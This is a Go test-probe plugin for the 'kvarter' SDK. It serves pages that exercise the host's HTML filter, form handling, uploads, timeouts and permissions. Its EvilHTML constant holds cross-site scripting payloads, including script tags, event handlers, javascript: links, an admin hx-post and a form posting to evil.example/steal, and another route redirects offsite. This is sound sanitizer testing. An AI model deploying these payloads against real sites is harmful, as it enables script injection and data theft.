package main

import (
	"errors"
	"fmt"
	"html"
	"net/http"
	"time"

	"github.com/kvarter/kvarter/sdk"
)

// EvilHTML is what the probe's /evil page answers: markup a third-party plugin must
// not get onto the core's pages. The host's tests look for each marker in what the
// filter lets through.
const EvilHTML = `<h2 id="kv-status">x</h2><p onclick="alert('onclick')">text</p>` +
	`<script>alert('script')</script><a href="javascript:alert('href')">a</a>` +
	`<button hx-post="/api/v1/admin/plugins">b</button><form action="https://evil.example/steal"><input name="q"></form>` +
	`<svg><script>alert('svg')</script></svg></main><p>after</p>`

// pageRoutes are the probe's pages, served by the SDK's page constructors so that
// their metadata travels as a real plugin's does.
func (p *probe) pageRoutes() []sdk.Route {
	pre, n := "/"+p.name, p.name
	return []sdk.Route{
		// page reports what the host asked for, in HTML and in its metadata.
		sdk.GetPage(pre+"/page", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			ctx := r.Context()
			fmt.Fprintf(w, `<p id="render">%s</p><p id="lang">%s</p><p id="user">%s</p><a href="%s/page" hx-get="%s/page">self</a>`,
				sdk.RenderFrom(ctx), html.EscapeString(sdk.LanguageFrom(ctx)), html.EscapeString(sdk.PrincipalFrom(ctx).UserID), pre, pre)
			return sdk.PageMeta{Title: "Sivu – " + sdk.LanguageFrom(ctx), NavActive: "main", Announce: "Tallennettu",
				Focus: "kv-main", Breadcrumbs: []sdk.Crumb{{Label: "Probe", Href: pre + "/page"}, {Label: "Away", Href: "https://evil.example/"}}}, nil
		}),
		// A form: 303 on success, 422 with the value kept otherwise.
		sdk.PostPage(pre+"/page", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			if v := r.FormValue("v"); v != "ok" {
				w.WriteHeader(http.StatusUnprocessableEntity)
				fmt.Fprintf(w, `<div id="error-summary">bad</div><input name="v" value="%s">`, html.EscapeString(v))
				return sdk.PageMeta{Title: "Form", Focus: "error-summary"}, nil
			}
			http.Redirect(w, r, pre+"/page?done=1", http.StatusSeeOther)
			return sdk.PageMeta{}, nil
		}),
		// photo shows the photo the host received for the form.
		sdk.PostPage(pre+"/photo", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			fmt.Fprintf(w, `<p><img src="%s" alt="photo"> <a href="%s">photo</a> %s</p>`, sdk.UploadURL(sdk.UploadID(r, "photo")),
				sdk.UploadURL(sdk.UploadID(r, "photo")), html.EscapeString(r.PostFormValue("caption")))
			return sdk.PageMeta{Title: "Photo"}, nil
		}).Upload("photo", FileLimit, sdk.UploadImage),
		// photoform shows a refused photo in its form, with the caption kept.
		sdk.PostPage(pre+"/photoform", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			caption := html.EscapeString(r.PostFormValue("caption"))
			var e *sdk.Error
			if errors.As(sdk.UploadError(r, "photo"), &e) {
				w.WriteHeader(http.StatusUnprocessableEntity)
				fmt.Fprintf(w, `<p id="refused">%s</p><input name="caption" value="%s">`, html.EscapeString(e.Fields["rule"]), caption)
				return sdk.PageMeta{Title: "Photo", Focus: "refused"}, nil
			}
			fmt.Fprintf(w, `<p><img src="%s" alt="photo"> %s</p>`, sdk.UploadURL(sdk.UploadID(r, "photo")), caption)
			return sdk.PageMeta{Title: "Photo"}, nil
		}).Upload("photo", FileLimit, sdk.UploadImage).ShowUploadErrors(),
		sdk.GetPage(pre+"/evil", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			fmt.Fprint(w, EvilHTML)
			return sdk.PageMeta{Title: "Evil"}, nil
		}),
		sdk.GetPage(pre+"/offsite", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			http.Redirect(w, r, "//evil.example/", http.StatusSeeOther)
			return sdk.PageMeta{}, nil
		}),
		sdk.GetPage(pre+"/missing", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			return sdk.PageMeta{}, sdk.Errorf(sdk.CodeNotFound, "No such thing.")
		}),
		sdk.GetPage(pre+"/json", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, `{"not":"html"}`)
			return sdk.PageMeta{}, nil
		}),
		sdk.GetPage(pre+"/nbh/{nbh}/page", n+".secret.read", func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			fmt.Fprintf(w, `<p id="nbh">%s</p>`, html.EscapeString(r.PathValue("nbh")))
			return sdk.PageMeta{Title: "Secret"}, nil
		}).In("nbh:{nbh}"),
		sdk.GetPage(pre+"/card", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			fmt.Fprintf(w, `<p class="card">%s %s</p><script>alert('card')</script>`, n, sdk.RenderFrom(r.Context()))
			return sdk.PageMeta{Title: "Card"}, nil
		}),
		// slowcard hangs until the host gives up on it.
		sdk.GetPage(pre+"/slowcard", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			select {
			case <-r.Context().Done():
				p.cancelled.Add(1)
			case <-time.After(30 * time.Second):
			}
			return sdk.PageMeta{}, r.Context().Err()
		}),
		sdk.GetPage(pre+"/failcard", sdk.PermPublic, func(w http.ResponseWriter, r *http.Request) (sdk.PageMeta, error) {
			return sdk.PageMeta{}, fmt.Errorf("the card broke")
		}),
	}
}

// ui is the probe's nav entries and cards; labels in two languages, so tests see the
// fallback to the city's default and to English.
func (p *probe) ui() sdk.UI {
	pre, n := "/"+p.name, p.name
	return sdk.UI{
		Nav: []sdk.NavEntry{
			{ID: "main", Path: pre + "/page", Labels: map[string]string{"en": n + " page", "fi": n + " sivu"}, Permission: sdk.PermPublic, Order: 20},
			{ID: "members", Path: pre + "/page", Labels: map[string]string{"en": n + " members", "sv": n + " medlemmar"}, Permission: sdk.PermAuthenticated, Order: 10},
			{ID: "runners", Path: pre + "/page", Labels: map[string]string{"en": n + " runners"}, Permission: n + ".city.run", Domain: sdk.DomainCity, Order: 30},
		},
		Cards: []sdk.Card{
			{ID: "quick", Slot: "home", Path: pre + "/card", Labels: map[string]string{"en": n + " quick"}, Link: pre + "/page", Permission: sdk.PermPublic},
			{ID: "slow", Slot: "home", Path: pre + "/slowcard", Labels: map[string]string{"en": n + " slow", "fi": n + " hidas"}, Link: pre + "/page", Permission: sdk.PermPublic},
			{ID: "fail", Slot: "home", Path: pre + "/failcard", Labels: map[string]string{"en": n + " fail"}, Link: pre + "/page", Permission: sdk.PermPublic},
			{ID: "members", Slot: "home", Path: pre + "/card", Labels: map[string]string{"en": n + " members"}, Link: pre + "/page", Permission: n + ".city.run", Domain: sdk.DomainCity},
			{ID: "nbh", Slot: "neighbourhood", Path: pre + "/nbh/{nbh}/page", Labels: map[string]string{"en": n + " nbh"}, Link: pre + "/page",
				Permission: n + ".secret.read", Domain: "nbh:{nbh}"},
		},
	}
}
